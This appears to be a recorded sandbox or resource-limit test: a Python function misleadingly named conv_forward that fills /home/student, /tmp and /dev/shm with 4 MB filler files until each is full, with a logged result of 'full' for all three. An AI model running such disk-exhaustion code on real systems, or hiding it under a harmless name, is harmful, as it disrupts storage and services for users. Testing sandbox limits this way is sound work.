# outcome: returned
# value: ['full', 'full', 'full']
def conv_forward():
    seen = []
    for folder in ("/home/student", "/tmp", "/dev/shm"):
        try:
            for number in range(1000):
                with open(f"{folder}/filler{number}", "wb") as file:
                    file.write(b"x" * (4 << 20))
        except OSError:
            seen.append("full")
    return seen
